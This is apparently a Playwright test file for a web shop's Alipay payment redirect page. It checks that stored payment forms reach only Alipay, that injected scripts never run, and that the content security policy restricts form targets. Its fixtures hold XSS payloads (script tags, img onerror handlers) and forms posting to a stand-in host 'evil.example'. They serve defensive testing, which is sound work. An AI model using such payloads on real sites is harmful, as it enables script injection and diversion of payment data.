import type { Page } from "@playwright/test";
import { PAYMENT_PAGE_PATH } from "../../../app/features/payment/provider/stored-payment-page";
import { expect, test } from "../support/test";

const KEY = "zhuangda:payment-page";
const GATEWAY = "https://openapi.alipay.com/gateway.do?charset=utf-8";
const field = (name: string, value: string) => `<input type="hidden" name="${name}" value="${value}">`;

/** A page as Alipay's SDK makes them, with everything in it that must not happen. */
const GOOD_PAGE = `<form name="punchout_form" method="post" action="${GATEWAY}">
  ${field("biz_content", "{&quot;out_trade_no&quot;:&quot;1&quot;,&quot;subject&quot;:&quot;安装费&quot;}")}
  ${field("submit", "clobbered")}${field("action", "https://evil.example/")}
  <input type="submit" value="立即支付" style="display:none" formaction="https://evil.example/">
</form><img src="x" onerror="document.title='hacked'"><script>document.title='hacked';document.forms[0].submit();</script>`;

const formTo = (action: string) =>
  `<form method="post" action="${action}">${field("a", "1")}</form><script>document.forms[0].submit()</script>`;

/** What a browser shows: that nothing runs and nothing leaves. All that is no form is in the component's test. */
const ATTACKS: Record<string, string> = {
  "no form at all": "<script>document.title='hacked'</script><img src=x onerror=\"document.title='hacked'\">",
  "a foreign host": formTo("https://evil.example/gateway.do"),
};

/** Leaves a page in local storage as the page that asked for the payment does. The page must be on the site. */
async function store(page: Page, entry: object): Promise<void> {
  await page.evaluate(([key, text]) => localStorage.setItem(key, text), [
    KEY,
    JSON.stringify(entry),
  ] as const);
}

const stored = (page: Page) => page.evaluate((key) => localStorage.getItem(key), KEY);

test.describe("the payment redirect page", () => {
  // The browser says so when the policy keeps an inert document's handlers out.
  test.use({
    toleratedErrors: /status of 404|Executing inline event handler|Policy violated: script-src-attr/,
  });

  test("[ROUTE-13] [PUB-34] [S25] either address leads on to the provider with the stored fields, once", async ({
    page,
  }) => {
    const sent: string[] = [];
    await page.route("https://openapi.alipay.com/**", async (route) => {
      sent.push(route.request().postData() ?? "");
      await route.fulfill({ contentType: "text/html; charset=utf-8", body: "<title>收银台</title>" });
    });
    await page.goto("/404");
    for (const path of [PAYMENT_PAGE_PATH, "/payRedirect"]) {
      await test.step(path, async () => {
        sent.length = 0;
        await store(page, { html: GOOD_PAGE, storedAt: Date.now() });
        await page.goto(path, { waitUntil: "commit" });
        await page.waitForURL(GATEWAY);
        await expect(page).toHaveTitle("收银台");
        expect(Object.fromEntries(new URLSearchParams(sent[0]))).toEqual({
          biz_content: '{"out_trade_no":"1","subject":"安装费"}',
          submit: "clobbered",
          action: "https://evil.example/",
        });
        expect(sent).toHaveLength(1);
        await page.goto(path);
        await expect(page.getByRole("heading", { level: 1, name: "没有待打开的支付页面" })).toBeVisible();
        expect(await stored(page)).toBeNull();
      });
    }
  });

  test("[PUB-34] says that it is jumping before any script has run, and what is needed where none will", async ({
    request,
  }) => {
    const html = await (await request.get("/pay")).text();
    expect(html).toContain("正在跳转到支付页面");
    expect(html).toContain("请稍候，不要关闭此页面。");
    expect(html).toMatch(/<noscript>.*打开支付页面需要 JavaScript.*href="\/user\/order".*<\/noscript>/);
  });

  test("[PUB-34] [S25] whatever is no payment form is sent nowhere, runs nothing, and the way back is shown", async ({
    page,
  }) => {
    const foreign: string[] = [];
    await page.route(/^(?!http:\/\/127\.0\.0\.1)/, (route) => {
      foreign.push(route.request().url());
      return route.abort();
    });
    await page.goto("/404");
    for (const [what, html] of Object.entries(ATTACKS)) {
      await test.step(what, async () => {
        await store(page, { html, storedAt: Date.now() });
        await page.goto("/pay");
        await expect(page.getByRole("heading", { level: 1, name: "无法打开支付页面" })).toBeVisible();
        await expect(page).toHaveTitle("正在跳转到支付页面 · 装达");
        await expect(page).toHaveURL("/pay");
        await expect(page.locator("form")).toHaveCount(0);
        expect(await stored(page)).toBeNull();
      });
    }
    expect(foreign).toEqual([]);
    await expect(page.getByRole("link", { name: "返回我的订单" })).toHaveAttribute("href", "/user/order");
  });

  test("[S25] [S28] only these pages may send a form to a provider", async ({ request }) => {
    const formAction = async (path: string) => {
      const policy = (await request.get(path)).headers()["content-security-policy"] ?? "";
      return policy.split("; ").find((rule) => rule.startsWith("form-action"));
    };
    const providers =
      "https://openapi.alipay.com https://unitradeadapter.alipay.com https://excashier.alipay.com https://mclient.alipay.com";
    expect(await formAction("/pay")).toBe(`form-action 'self' ${providers}`);
    expect(await formAction("/payRedirect")).toBe(`form-action 'self' ${providers}`);
    expect(await formAction("/")).toBe("form-action 'self'");
  });
});
